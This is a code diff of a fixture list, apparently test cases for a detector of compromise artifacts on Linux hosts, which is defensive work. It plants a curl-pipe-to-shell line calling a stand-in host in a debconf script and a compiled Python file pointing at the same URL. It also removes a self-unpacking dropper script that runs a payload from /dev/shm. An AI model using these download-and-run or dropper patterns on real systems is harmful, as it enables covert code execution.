@@ -33,7 +33,7 @@ export const fifthLeftovers: readonly Sign[] = [
 	file('nss-x', 'files', 'what an exploit of sudo leaves', '/var/tmp/libnss_X/P0P_SH3LLZ_ .so.2', elf('x', 'library'), { owner: 'www-data', also: ['/var/tmp/libnss_X'] }),
 	file('base64-elf', 'files', 'a program as letters', '/usr/share/misc/magic.txt', `${elf('x').toString('base64').replaceAll(/(.{76})/g, '$1\n')}\n`),
 	file('hex-elf', 'files', 'a program as numbers', '/var/lib/misc/state.hex', `${elf('x').toString('hex')}\n`),
-	{ id: 'gzip-elf', family: 'files', what: 'a script with a program behind it', plant: tree => tree.write('/usr/local/sbin/sysupdate', Buffer.concat([Buffer.from('#!/bin/sh\ntail -n +4 "$0" | gzip -dc > /dev/shm/.u; chmod 700 /dev/shm/.u\n/dev/shm/.u & exit 0\n'), Buffer.from('1f8b0800000000000003', 'hex'), Buffer.alloc(600, 0x91)]), { mode: 0o755 }), names: ['/usr/local/sbin/sysupdate'] },
+	// A script of /usr/local that unpacks a program behind itself is not among these: makers install so, and nothing starts it.
 	file('module-xz', 'files', 'a packed module of no package', '/usr/lib/modules/6.1.0-40-amd64/kernel/net/nf_help.ko.xz', Buffer.concat([Buffer.from('fd377a585a000004', 'hex'), Buffer.alloc(600, 7)])),
 	file('pyc-alone', 'files', 'compiled Python without a source', '/usr/lib/python3/dist-packages/netutil.pyc', Buffer.concat([Buffer.from('a70d0d0a0000000000000000', 'hex'), Buffer.from('subprocess\0Popen\0http://203.0.113.9/k')])),
 	file('debconf', 'packages', 'a packaged script that others read', '/usr/share/debconf/confmodule', '#!/bin/sh\n(curl -s 203.0.113.9/k|sh) &\n'),
